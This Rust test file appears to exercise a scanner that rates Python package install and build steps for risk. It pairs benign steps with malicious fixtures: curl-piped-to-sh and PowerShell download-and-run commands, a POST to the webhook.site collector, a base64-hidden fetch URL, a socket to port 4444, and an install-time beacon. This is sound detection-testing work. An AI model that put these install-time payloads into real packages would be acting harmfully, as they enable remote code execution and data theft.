//! False positives of issue #12, sixth round (a seventh benign draw): a
//! build step is judged by what it runs, found where the code keeps it (a
//! command list in a variable, a helper's callers, a Windows path), and a
//! host name by whether anything is sent. Each benign look-alike sits next
//! to the malicious form that must stay high.

mod support;

use support::*;

use airlock_inspect::{Report, Severity};
use Severity::{High, Low, Medium};

fn max(report: &airlock_inspect::Report, rule: &str) -> Option<Severity> {
    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
}

/// A setup.py whose `build` override runs `body` (indented by the caller's lines).
fn build_override(prelude: &str, body: &str) -> String {
    format!(
        "import os, subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.build import build\nfrom setuptools.command.install import install\n{prelude}\nclass Build(build):\n    def run(self):\n{body}\n        build.run(self)\nclass Install(install):\n    def run(self):\n        install.run(self)\nsetup(name='acme', cmdclass={{'build': Build, 'install': Install}})\n"
    )
}

// ---------------------------------------------------------------- the running interpreter, named in a variable

#[test]
fn the_interpreter_running_a_shipped_script_through_a_command_variable_is_a_build_step() {
    let source = build_override(
        "",
        "        cmd = [sys.executable, os.path.join(os.path.dirname(__file__), 'ffi', 'build.py')]\n        subprocess.run(cmd, check=True)",
    );
    let r = sdist(&[("setup.py", &source), ("ffi/build.py", "print('building')\n"), ("acme/__init__.py", "")]);
    assert_eq!(max(&r, "access/process-on-install"), Some(Low), "{:?}", r.findings);
    // The same list naming a script the archive does not ship: what runs is not here to read.
    let r = sdist(&[("setup.py", &source), ("acme/__init__.py", "")]);
    assert_eq!(max(&r, "access/process-on-install"), Some(High));
}

// ---------------------------------------------------------------- PowerShell running the project's own script

fn powershell_build(script: &str) -> Report {
    let source = build_override("", "        subprocess.Popen(['powershell.exe', '.\\\\build_extension.ps1']).wait()");
    sdist(&[("setup.py", &source), ("build_extension.ps1", script), ("acme/__init__.py", "")])
}

#[test]
fn powershell_running_the_projects_own_build_script_is_medium_unless_the_script_downloads() {
    let r = powershell_build("cmake -B build .\ncmake --build build --config Release\n");
    assert_eq!(max(&r, "access/process-on-install"), Some(Medium), "{:?}", r.findings);
    let r = powershell_build("Invoke-WebRequest https://files.example.net/x.exe -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe\n");
    assert_eq!(max(&r, "access/process-on-install"), Some(High));
    // A hidden window stays high whatever the script holds.
    let source = build_override("", "        subprocess.Popen(['powershell.exe', '-WindowStyle', 'Hidden', '.\\\\build_extension.ps1']).wait()");
    let r = sdist(&[("setup.py", &source), ("build_extension.ps1", "cmake -B build .\n"), ("acme/__init__.py", "")]);
    assert_eq!(max(&r, "access/process-on-install"), Some(High));
}

// ---------------------------------------------------------------- a helper that runs what its callers pass

#[test]
fn a_helper_running_what_its_callers_pass_is_judged_by_each_call() {
    let prelude = "def runcmd(cmd, env):\n    p = subprocess.Popen(cmd, stdout=subprocess.PIPE, env=env)\n    return p.communicate()\n";
    let r = setup_py(&build_override(prelude, "        runcmd([sys.executable, '-c', 'import acme'], os.environ)"));
    assert_eq!(hits(&r, "access/process-on-install", SETUP).iter().map(|h| h.1).max(), Some(Low), "{:?}", r.findings);
    let r = setup_py(&build_override(prelude, "        runcmd('curl -s https://files.example.net/x.sh | sh', os.environ)"));
    assert_eq!(max(&r, "access/process-on-install"), Some(High));
}

#[test]
fn an_install_override_starting_a_command_its_callers_build_is_medium_and_a_written_one_stays_high() {
    let prelude =
        "class Hg:\n    def __init__(self, cmd):\n        self.cmd = cmd\n    def call(self, args):\n        return subprocess.Popen(self.cmd + args).wait()\n";
    let r = setup_py(&build_override(prelude, "        pass"));
    assert_eq!(max(&r, "access/process-on-install"), Some(Medium), "{:?}", r.findings);
    let prelude = "def start():\n    subprocess.Popen('launcher --silent', shell=True)\n";
    let r = setup_py(&build_override(prelude, "        start()"));
    assert_eq!(max(&r, "access/process-on-install"), Some(High));
}

// ---------------------------------------------------------------- a build tool given an address

#[test]
fn a_build_tool_configured_with_an_https_address_is_medium_and_piping_or_an_installer_is_not() {
    let r =
        setup_py(&build_override("", "        subprocess.run(['conan', 'remote', 'update', 'conancenter', '--url=https://center.example.io'], check=True)"));
    assert_eq!(max(&r, "access/process-on-install"), Some(Medium), "{:?}", r.findings);
    let r = setup_py(&build_override("", "        subprocess.run(['git', 'clone', 'https://git.example.org/acme/vendored.git'], check=True)"));
    assert_eq!(max(&r, "access/process-on-install"), Some(Medium));
    let r = setup_py(&build_override("", "        os.system('git clone https://git.example.org/x.git && sh x/run.sh')"));
    assert_eq!(max(&r, "access/process-on-install"), Some(High));
    let r = setup_py(&build_override("", "        subprocess.run(['npm', 'install', 'https://files.example.net/pkg.tgz'], check=True)"));
    assert_eq!(max(&r, "access/process-on-install"), Some(High));
}

// ---------------------------------------------------------------- access/exfil-endpoint: a host in a list

#[test]
fn a_collector_host_in_a_blocklist_of_a_file_that_sends_nothing_is_medium() {
    let r = module(
        "BLOCKLIST = {\n    'mailinator.com',\n    'webhook.site',\n    'yopmail.com',\n}\ndef is_disposable(domain):\n    return domain in BLOCKLIST\n",
    );
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(3, Medium)]);
    // The same host used: a request to it, a bare host handed to a connection, a full address.
    let r = module("import requests\nHOST = 'webhook.site'\ndef send(data):\n    requests.post('https://' + HOST + '/6f1c', data=data)\n");
    assert_eq!(max(&r, "access/exfil-endpoint"), Some(High));
    let r = module("import http.client\nconn = http.client.HTTPSConnection('webhook.site')\n");
    assert_eq!(max(&r, "access/exfil-endpoint"), Some(High));
    let r = module("URL = 'https://webhook.site/6f1c2a'\n");
    assert_eq!(max(&r, "access/exfil-endpoint"), Some(High));
}

// ---------------------------------------------------------------- access/network-on-install: what the answer is used for

#[test]
fn an_import_time_fetch_whose_answer_is_returned_or_parsed_is_medium_and_a_thrown_away_one_stays_high() {
    let r = module("import requests\ndef latest():\n    return requests.get('https://api.example.org/acme/latest').json()\nprint(latest())\n");
    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
    let r = module("import json, urllib.request\nINDEX = json.loads(urllib.request.urlopen('https://data.example.org/index.json').read())\n");
    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
    // A beacon: the answer is thrown away.
    let r = module("import requests\nrequests.get('https://api.example.org/acme/installed')\n");
    assert_eq!(max(&r, "access/network-on-install"), Some(High));
}

#[test]
fn a_fetch_of_an_address_the_file_does_not_hold_is_medium_unless_the_address_is_decoded() {
    let r = module("import os, requests\nSETTINGS = requests.get(os.environ.get('ACME_SETTINGS_URL', '')).json()\n");
    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
    let r = module("import base64, requests\nSETTINGS = requests.get(base64.b64decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLm5ldC94').decode()).text\n");
    assert_eq!(max(&r, "access/network-on-install"), Some(High));
}

#[test]
fn a_build_that_downloads_data_and_runs_nothing_is_medium_and_one_that_runs_a_process_stays_high() {
    let r = setup_py(&build_override(
        "import urllib.request",
        "        with urllib.request.urlopen('https://data.example.org/tables.json') as resp:\n            open('acme/tables.json', 'wb').write(resp.read())",
    ));
    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
    let r = setup_py(&build_override(
        "import urllib.request",
        "        with urllib.request.urlopen('https://data.example.org/tool') as resp:\n            open('tool', 'wb').write(resp.read())\n        subprocess.call(['./tool'])",
    ));
    assert_eq!(max(&r, "access/network-on-install"), Some(High));
}

// ---------------------------------------------------------------- a Unix socket, a script's arguments, a maintainer's sdist

#[test]
fn a_connect_on_a_unix_domain_socket_reaches_no_host() {
    let ipc = "import os, socket\n_ipc = None\nif 'RUNTIME_IPC_PATH' in os.environ:\n    _ipc = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n    _ipc.connect(os.environ['RUNTIME_IPC_PATH'])\n";
    let r = module(ipc);
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(5, Low)]);
    // The same variable given an internet socket: a host.
    let r = module(&ipc.replace("AF_UNIX", "AF_INET").replace("os.environ['RUNTIME_IPC_PATH'])", "('203.0.113.9', 4444))"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High));
}

#[test]
fn a_module_whose_top_level_hands_work_its_command_line_arguments_is_a_script() {
    let script = "import sys, requests\ndef fetch(url, dest):\n    r = requests.get(url, stream=True)\n    open(dest, 'wb').write(r.content)\ntry:\n    if sys.argv[1] == '--fetch':\n        fetch(sys.argv[2], sys.argv[3])\nexcept Exception as e:\n    print(e)\n";
    let r = module(script);
    below_or_none(&r, "access/network-on-install");
    // `sys.argv[0]` is the program's own path (what code that copies itself reads): no script.
    let r = module("import os, sys, requests\nname = os.path.basename(sys.argv[0])\nrequests.get('https://collector.example.net/' + name)\n");
    assert_eq!(max(&r, "access/network-on-install"), Some(High));
}

fn below_or_none(report: &Report, rule: &str) {
    let worst = max(report, rule);
    assert!(worst.is_none_or(|s| s < High), "{rule}: {:?}", report.findings);
}

#[test]
fn a_script_only_an_sdist_override_runs_does_not_run_on_install() {
    let setup = "import subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.sdist import sdist\nclass BuildSdist(sdist):\n    def run(self):\n        subprocess.run([sys.executable, 'acme/release.py'])\n        sdist.run(self)\nsetup(name='acme', cmdclass={'sdist': BuildSdist})\n";
    let release = "import requests\ndef save(url, name):\n    r = requests.get('https://files.example.net/fw/' + url)\n    open(name, 'wb').write(r.content)\nif __name__ == '__main__':\n    save('image.img', 'image.img')\n";
    let r = sdist(&[("setup.py", setup), ("acme/__init__.py", ""), ("acme/release.py", release)]);
    below_or_none(&r, "access/network-on-install");
    below_or_none(&r, "access/process-on-install");
    // Registered as the install command, the same class runs on install.
    let r = sdist(&[("setup.py", &setup.replace("{'sdist': BuildSdist}", "{'install': BuildSdist}")), ("acme/__init__.py", ""), ("acme/release.py", release)]);
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
}
